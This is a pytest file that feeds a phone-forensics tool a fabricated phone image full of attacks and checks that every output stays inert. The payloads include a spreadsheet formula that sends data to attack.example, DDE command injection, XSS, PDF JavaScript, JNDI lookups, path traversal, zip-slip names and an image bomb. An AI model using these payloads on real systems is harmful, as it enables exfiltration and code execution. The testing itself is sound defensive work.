"""A phone that attacks whoever reads it, taken through everything phonefx makes of a phone.

Nothing of it may run, leave the case folder, reach a network, or arrive in an output as anything but text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import struct
import zipfile
import zlib
from html.parser import HTMLParser
from pathlib import Path

import pytest
from lxml import etree
from pypdf import PdfReader
from tests.watched import Watch

SMS = "data/data/com.android.providers.telephony/databases/mmssms.db"
CONTACTS = "data/data/com.android.providers.contacts/databases/contacts2.db"
CALLS = "data/data/com.android.providers.contacts/databases/calllog.db"
PARTS = "data/user_de/0/com.android.providers.telephony/app_parts"
SECRET = "attack.example"
REFUSED = {"joined": (2,), "nowhere": (11,), "no option": (2,)}
"""Commands that end with one line of error, which repeats what it was given or found; with their exit status."""
ATTACKS = (
    f'=HYPERLINK("http://{SECRET}/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    f"<script>fetch('http://{SECRET}')</script>",
    f'"><img src="http://{SECRET}/x.png" onerror="alert(1)">',
    "</script><script>alert(1)</script>",
    "]]></description><NetworkLink><Link><href>http://attack.example/</href></Link></NetworkLink>",
    "&lt;iframe src=//attack.example&gt;",
    ") Tj ET endstream endobj 1 0 obj << /S /JavaScript /JS (app.alert(1)) >>",
    "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "invoice\u202egpj.exe",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\x",
    "line\r\nX-Injected: yes",
    "a\u0000b",
    "e" + "\u0301" * 5000,
    "\U000e0001\ufeff\u2028\u2029\u0085",
    "${jndi:ldap://attack.example/a} {{7*7}} %s%n",
)
NAMES = ("../../../escape.txt", "/etc/cron.d/escape", "..\\..\\escape.exe", "CON", "a\0.jpg", "x" * 300)


def bomb() -> bytes:
    """Make a PNG that claims 30,000 times 30,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    parts = chunk(b"IHDR", head), chunk(b"IDAT", zlib.compress(bytes(200_000))), chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def database(path: Path, *statements: str | tuple[str, tuple[object, ...]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    made = sqlite3.connect(path, isolation_level=None)
    made.execute("PRAGMA synchronous = OFF")
    for each in statements:
        made.execute(*((each,) if isinstance(each, str) else each))
    made.close()


@pytest.fixture(scope="module")
def phone(tmp_path_factory) -> Path:
    """A zip of a phone whose every text is an attack."""
    folder = tmp_path_factory.mktemp("hostile") / "phone"
    start = 1_700_000_000_000
    database(
        folder / SMS,
        "CREATE TABLE sms(_id INTEGER PRIMARY KEY, thread_id INTEGER, address TEXT, date INTEGER, date_sent INTEGER,"
        " read INTEGER, type INTEGER, body TEXT, service_center TEXT)",
        *[
            ("INSERT INTO sms VALUES (?, ?, ?, ?, 0, 1, ?, ?, ?)",
             (n, n, text if n % 3 == 0 else "+12025550143", start + n * 60_000, 1 + n % 2, text, text))
            for n, text in enumerate(ATTACKS, 1)
        ],
        ("INSERT INTO sms VALUES (900, 1, ?, ?, 0, 1, 1, CAST(? AS TEXT), NULL)",
         ("+12025550143", start, b"\xff\xfe bytes \xed\xa0\x80 that are no text")),
        "CREATE TRIGGER steal AFTER INSERT ON sms BEGIN DELETE FROM sms; END",
        "CREATE VIEW threads AS SELECT load_extension('/tmp/evil') AS _id",
        "CREATE TABLE pdu(_id INTEGER PRIMARY KEY, thread_id INTEGER, date INTEGER, date_sent INTEGER, msg_box INTEGER,"
        " read INTEGER, m_id TEXT, sub TEXT, sub_cs INTEGER, ct_t TEXT, m_type INTEGER)",
        "CREATE TABLE addr(_id INTEGER PRIMARY KEY, msg_id INTEGER, contact_id INTEGER, address TEXT, type INTEGER,"
        " charset INTEGER)",
        "CREATE TABLE part(_id INTEGER PRIMARY KEY, mid INTEGER, seq INTEGER, ct TEXT, name TEXT, chset INTEGER,"
        " cd TEXT, fn TEXT, cid TEXT, cl TEXT, _data TEXT, text TEXT)",
        "INSERT INTO pdu VALUES (1, 3, 1700000000, 0, 1, 1, 'm', '=1+1', 106, NULL, 132)",
        "INSERT INTO addr VALUES (1, 1, NULL, '<b onmouseover=alert(1)>', 137, 106)",
        *[
            ("INSERT INTO part(_id, mid, seq, ct, name, cl, _data) VALUES (?, 1, ?, 'image/png', ?, ?, ?)",
             (n, n, name, name, f"/{PARTS}/{name}"))
            for n, name in enumerate((*NAMES, "bomb.png"), 1)
        ],
    )  # fmt: skip
    database(
        folder / CALLS,
        "CREATE TABLE calls(_id INTEGER PRIMARY KEY, number TEXT, date INTEGER, duration INTEGER, type INTEGER,"
        " name TEXT)",
        *[("INSERT INTO calls VALUES (?, ?, ?, 5, 1, ?)", (n, text, start + n * 60_000, text))
          for n, text in enumerate(ATTACKS, 1)],
    )  # fmt: skip
    # What the parser would take for its table is a view that never ends.
    database(
        folder / "data/data/com.android.providers.downloads/databases/downloads.db",
        "CREATE VIEW downloads AS WITH RECURSIVE n(_id) AS (SELECT 1 UNION ALL SELECT _id + 1 FROM n)"
        " SELECT _id, '' AS uri, '' AS _data, '' AS mimetype, 0 AS lastmod, '' AS title FROM n",
    )
    picture = folder / PARTS / "bomb.png"
    picture.parent.mkdir(parents=True)
    picture.write_bytes(bomb())
    packed = folder.with_suffix(".zip")
    with zipfile.ZipFile(packed, "w") as out:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                out.write(path, path.relative_to(folder).as_posix())
        for name in ("../../escape.txt", "/etc/escape", "data/../../escape2", "con", "C:\\escape"):
            out.writestr(name, "escaped")
    return packed


@pytest.fixture(scope="module")
def done(phone, tmp_path_factory) -> tuple[Path, dict[str, str], list[tuple[str, str, str]]]:
    """The case of the phone, what each command printed, and what the interpreter was asked to do."""
    folder = tmp_path_factory.mktemp("case") / "case"
    watch = Watch(tmp_path_factory.mktemp("watch"))
    printed, seen = {}, []
    for name, arguments in {
        "process": ("process", phone, "-o", folder, "--examiner", ATTACKS[5], "--case-number", ATTACKS[0]),
        "info": ("info", phone),
        "timeline": ("timeline", folder),
        "csv": ("timeline", folder, "--csv"),
        "jsonl": ("timeline", folder, "--jsonl"),
        "search": ("search", folder, "alert"),
        "people": ("people", "list", folder),
        "joined": ("people", "join", folder, ATTACKS[11], "+12025550143", "--why", ATTACKS[11]),
        "links": ("links", folder, "--csv", folder / "links.csv"),
        "duplicates": ("duplicates", folder, "--items"),
        "leads": ("leads", folder),
        "clocks": ("clocks", folder, "--placed"),
        "meetings": ("meetings", folder),
        "tagged": ("tag", "add", folder, ATTACKS[11], "1"),
        "tags": ("tag", "list", folder),
        "selected": ("select", "add", folder, ATTACKS[11], "12"),
        "selections": ("select", "list", folder),
        "noted": ("note", folder, "1", ATTACKS[11]),
        "notes": ("note", folder),
        "recovered": ("recover", phone.with_suffix("") / SMS, "--full"),
        "nowhere": ("info", phone.with_name(ATTACKS[11])),
        "no option": ("timeline", folder, "--limit", ATTACKS[11]),
        "html": ("map", folder, "--format", "html"),
        "gpx": ("map", folder, "--format", "gpx"),
        "geojson": ("map", folder, "--format", "geojson"),
        "report": ("report", folder, "--preset", "full", "--exhibit", f"E1={phone}", "--show-images"),
        "trace": ("trace", folder, "1", "--exhibit", phone),
        "verify": ("verify", folder, "--exhibit", f"E1={phone}"),
    }.items():
        run = watch.phonefx(*arguments)
        assert run.status in (REFUSED.get(name) or (0, 3)), (name, run.printed)
        assert "Traceback" not in run.printed
        printed[name] = run.printed
        seen += [(name, *event) for event in run.events]
    return folder, printed, seen


def texts_of(folder: Path) -> set[str]:
    with sqlite3.connect(folder / "case.db") as case:
        case.text_factory = lambda raw: raw.decode("utf-8", "backslashreplace")
        return {text for (text,) in case.execute("SELECT body FROM message WHERE body IS NOT NULL")}


def test_every_message_is_in_the_case_as_it_was(done):
    stored = texts_of(done[0])
    assert set(ATTACKS) <= stored
    assert len([text for text in stored if "bytes" in text and "that are no text" in text]) == 1


def test_nothing_ran_and_nothing_opened_a_socket(done):
    assert [event for event in done[2] if event[1] != "write"] == []


def test_nothing_was_written_outside_the_case(done, phone):
    folder, _, seen = done
    outside = {(name, what) for name, _, what in seen if not Path(what).is_relative_to(folder)}
    assert {name for name, _ in outside} <= {"info", "nowhere", "trace"}, "what may not write to a case"
    assert [what for _, what in outside if Path(what).exists()] == []
    assert not list(phone.parents[2].rglob("escape*"))
    names = {path.name for path in folder.rglob("*")}
    assert not names & {"escape.txt", "escape2", "escape", "con", "CON"}


def test_a_view_is_no_table(done):
    with sqlite3.connect(done[0] / "case.db") as case:
        found = case.execute("SELECT outcome FROM coverage WHERE parser = 'android.downloads'").fetchall()
        assert case.execute("SELECT count(*) FROM item WHERE parser = 'android.downloads'").fetchone() == (0,)
    assert found
    assert found[0][0] not in ("items", "not found")


def test_the_terminal_gets_no_control_character(done):
    harmful = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
    assert len(done[1]) >= 25
    assert {name: harmful.findall(text.replace("\r\n", "\n")) for name, text in done[1].items() if name != "csv"} == {
        name: [] for name in done[1] if name != "csv"
    }
    assert "owned" in done[1]["joined"]
    assert "owned" in done[1]["selected"]


def test_one_absurd_name_does_not_push_a_table_apart(done):
    for name in ("people", "links"):
        lines = done[1][name].splitlines()
        assert len(lines) > 5
        assert sum(len(line) > 2000 for line in lines) <= 3, "the name itself, once or twice"


def test_csv_holds_no_formula(done):
    rows = list(csv.reader(io.StringIO(done[1]["csv"])))
    assert len(rows) > 2 * len(ATTACKS)
    for cell in (cell for row in rows[1:] for cell in row if cell):
        assert cell[0] not in "=@\t\r" or cell[0] == "'", cell
        assert cell[0] not in "+-" or cell[1:].replace(".", "").isdigit(), cell


class Tags(HTMLParser):
    """Every tag of a page with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def tags(text: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Tags()
    reader.feed(text)
    return reader.found


def harmless(found: list[tuple[str, dict[str, str | None]]]) -> None:
    for tag, attributes in found:
        assert tag not in {"iframe", "object", "embed", "base", "form"}, tag
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        for name in ("src", "href", "action"):
            assert not re.match(r"\s*(https?:|//|javascript:|file:)", attributes.get(name) or ""), (tag, attributes)


def test_the_html_map_holds_text_alone(done):
    page = (done[0] / "report" / "map.html").read_text(encoding="utf-8")
    found = tags(page)
    harmless(found)
    assert sum(tag == "script" for tag, _ in found) == page.count("</script>") <= 4
    assert "default-src 'none'" in page


def test_the_kml_holds_text_alone(done):
    with zipfile.ZipFile(done[0] / "report" / "movement.kmz") as kmz:
        for name in kmz.namelist():
            assert not name.startswith(("/", "..")), name
            if name.endswith(".kml"):
                tree = etree.fromstring(kmz.read(name), etree.XMLParser(resolve_entities=False))
                for element in tree.iter("{*}description", "{*}text"):
                    harmless(tags(element.text or ""))
                for link in tree.iter("{*}href"):
                    assert not re.match(r"\w+:|//|\.\.", link.text or ""), link.text


@pytest.mark.parametrize("name", ["positions.gpx", "positions.geojson"])
def test_files_for_other_maps_are_well_formed(done, name):
    content = (done[0] / "exports" / name).read_bytes()
    if name.endswith("gpx"):
        etree.fromstring(content)
    else:
        json.loads(content)


def test_the_pdf_does_nothing(done):
    reader = PdfReader(done[0] / "report" / "report.pdf")
    forbidden = {"/JavaScript", "/JS", "/Launch", "/URI", "/SubmitForm", "/GoToR", "/ImportData", "/RichMedia"}
    for number in range(1, len(reader.xref[0]) if 0 in reader.xref else 1):
        value = reader.get_object(number)
        if isinstance(value, dict):
            assert value.get("/S") not in forbidden, value
            assert not forbidden & set(value), value
    assert "/OpenAction" not in reader.trailer["/Root"] or "/S" not in str(reader.trailer["/Root"]["/OpenAction"])
    text = "".join(page.extract_text() for page in reader.pages)
    assert "[U+202E]" in text
    assert "app.alert(1)" in text


def test_the_log_holds_no_message(done):
    log = (done[0] / "audit.jsonl").read_text(encoding="utf-8")
    typed = (0, 5, 11)  # what the examiner gave as case number, as name, as tag
    for attack in (each for number, each in enumerate(ATTACKS) if number not in typed):
        assert json.dumps(attack)[1:-1] not in log
        assert attack not in log


def test_the_picture_that_is_a_bomb_is_named_and_not_drawn(done):
    text = "".join(page.extract_text() for page in PdfReader(done[0] / "report" / "report.pdf").pages)
    assert "bomb.png" in text
